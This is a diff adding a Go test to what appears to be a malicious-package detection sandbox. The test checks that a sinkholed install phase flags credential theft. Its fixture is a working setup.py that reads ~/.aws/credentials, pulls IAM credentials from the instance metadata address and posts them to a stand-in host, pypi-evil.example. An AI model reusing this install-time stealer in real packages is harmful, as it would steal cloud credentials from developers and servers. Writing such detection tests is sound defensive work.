@@ -133,6 +133,54 @@ setup(name="stealer", version="0.1", packages=["stealer"])
 	}
 }
 
+// TestInstallSinkholeHTTPS: by default the install phase has a sinkhole.
+// A setup.py that takes the instance's credentials from the metadata
+// address and posts the planted AWS key over HTTPS gets its answers, and
+// the report of the install phase shows the request in clear: the
+// metadata credential access and the exfiltration, seen by the sink.
+func TestInstallSinkholeHTTPS(t *testing.T) {
+	dir := writeProject(t, map[string]string{
+		"setup.py": `import os, urllib.request
+from setuptools import setup
+loot = open(os.path.expanduser("~/.aws/credentials")).read()
+base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+try:
+    role = urllib.request.urlopen(base, timeout=5).read().decode()
+    imds = urllib.request.urlopen(base + role, timeout=5).read().decode()
+    r = urllib.request.urlopen("https://pypi-evil.example/c", data=(loot + imds).encode(), timeout=5)
+    print("MOAT-TEST: https", r.status)
+except OSError as e:
+    print("MOAT-TEST: failed:", e)
+setup(name="stealer", version="0.1", packages=["stealer"])
+`,
+		"stealer/__init__.py": "VALUE = 1\n",
+	})
+	tg, err := pkgtest.DetectTarget(makeSdist(t, dir, "stealer-0.1"), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install"}})
+	if err != nil || rep.Status != pkgtest.StatusPassed {
+		dump(t, rep)
+		t.Fatalf("status %s, err %v", rep.Status, err)
+	}
+	logFindings(t, rep)
+	ins := phase(rep, "install")
+	if out := ins.Stdout + ins.Stderr; ins.Network != "sinkhole" || !strings.Contains(out, "MOAT-TEST: https 200") {
+		t.Fatalf("install: network %s, output %s", ins.Network, tail(out))
+	}
+	var md, exfil bool
+	for _, f := range ins.Findings {
+		md = md || f.Category == moat.CategoryCredentialAccess && strings.Contains(f.Summary, "instance metadata service")
+		exfil = exfil || f.Category == moat.CategoryExfiltration && f.Severity == moat.SeverityCritical &&
+			strings.Contains(f.Summary, "aws-secret-access-key") && strings.Contains(f.Summary, "imds-aws-secret-access-key") &&
+			strings.Contains(f.Summary, "sent over the network")
+	}
+	if !md || !exfil || rep.Verdict != "critical" {
+		t.Errorf("install findings (metadata %v, exfiltration over https %v), verdict %s", md, exfil, rep.Verdict)
+	}
+}
+
 // A package whose import writes a .pth file with code into the venv's
 // site-packages: persistence, attributed to import.
 func TestReportImportPersistence(t *testing.T) {
